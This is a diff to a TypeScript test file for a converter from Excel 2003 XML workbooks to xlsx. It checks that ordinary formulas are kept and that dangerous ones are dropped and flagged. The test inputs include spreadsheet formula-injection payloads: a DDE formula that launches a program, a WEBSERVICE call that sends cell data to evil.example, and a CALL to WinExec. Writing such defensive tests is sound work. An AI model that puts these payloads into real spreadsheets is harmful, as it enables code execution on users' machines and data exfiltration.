@@ -36,11 +36,11 @@ describe('an Excel 2003 workbook in XML becomes xlsx', () => {
     const { sheet, texts, kinds, quality } = await run(workbookXml({ rows }), 'a.xml');
     expect(texts).toEqual(['a &lt;b&gt; &amp; c']);
     for (const part of [
-      '<c r="A1" t="s"><v>0</v></c><c r="D1"><v>7.5</v></c>',
+      '<c r="A1" t="s"><v>0</v></c><c r="D1"><f>C1*2</f><v>7.5</v></c>',
       '<row r="5"><c r="A5" t="b"><v>1</v></c><c r="B5" t="e"><v>#N/A</v></c><c r="C5"><v>38426.5</v></c></row>',
     ])
       expect(sheet).toContain(part);
-    expect(kinds).toEqual(['workbook in XML', 'formula']);
+    expect(kinds).toEqual(['workbook in XML']);
     expect(quality.units).toEqual({ kind: 'sheets', before: 1, after: 1 });
   });
 
@@ -52,6 +52,41 @@ describe('an Excel 2003 workbook in XML becomes xlsx', () => {
     expect(
       (await run(workbookXml({ rows: row(`<Cell>${data('DateTime', `${day}T00:00:00.000`)}</Cell>`) }))).sheet,
     ).toContain(`<v>${number}</v>`);
+  });
+
+  test('with its formulas in the form of xlsx, and the values that they last had', async () => {
+    const formula = (code: string, type: string, value: string) =>
+      `<Cell ss:Formula="${code}">${data(type, value)}</Cell>`;
+    const cells = [
+      formula('=SUM(R[1]C:R[2]C)', 'Number', '3'),
+      formula('=RC[-1]&amp;&quot; _x0041_ &lt;pieces&gt;&quot;', 'String', '3 _x0041_ &lt;pieces&gt;'),
+      formula('=R1C1&gt;2', 'Boolean', '1'),
+      formula('=1/0', 'Error', '#DIV/0!'),
+    ];
+    const { sheet, kinds } = await run(workbookXml({ rows: row(...cells) + row(cell('a')) }));
+    for (const part of [
+      '<c r="A1"><f>SUM(A2:A3)</f><v>3</v></c>',
+      '<c r="B1" t="str"><f>A1&amp;" _x005F_x0041_ &lt;pieces&gt;"</f><v>3 _x005F_x0041_ &lt;pieces&gt;</v></c>',
+      '<c r="C1" t="b"><f>$A$1&gt;2</f><v>1</v></c>',
+      '<c r="D1" t="e"><f>1/0</f><v>#DIV/0!</v></c>',
+    ])
+      expect(sheet).toContain(part);
+    expect(kinds).not.toContain('formula');
+  });
+
+  test.each([
+    ['that starts a program', "=cmd|' /c calc'!A0"],
+    ['that loads', '=WEBSERVICE(&quot;https://evil.example/&quot;&amp;RC[1])'],
+    ['that calls a macro', '=CALL(&quot;kernel32&quot;,&quot;WinExec&quot;,&quot;JCJ&quot;)'],
+    ['of another workbook', '=[other.xls]Sheet1!R1C1'],
+    ['with a name', '=Total*2'],
+    ['that fills cells', '=R[1]C:R[2]C&quot; ss:ArrayRange=&quot;RC:R[1]C'.replaceAll('&quot;', '"')],
+  ])('without a formula %s, which is named, and with its value', async (_, code) => {
+    const { sheet, kinds } = await run(
+      workbookXml({ rows: row(`<Cell ss:Formula="${code}">${data('Number', '7')}</Cell>`) }),
+    );
+    expect(sheet).toContain('<c r="A1"><v>7</v></c>');
+    expect(kinds).toContain('formula');
   });
 
   test('with text that is no number of a character, though it is spelled like one', async () => {
